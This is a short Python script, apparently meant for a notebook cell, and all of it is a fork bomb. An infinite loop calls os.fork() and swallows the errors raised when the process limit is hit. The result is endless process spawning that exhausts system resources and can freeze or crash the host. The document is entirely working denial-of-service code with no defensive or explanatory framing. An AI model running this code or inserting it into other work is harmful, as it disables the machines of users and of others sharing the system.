# Forks without end while its cells run.

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
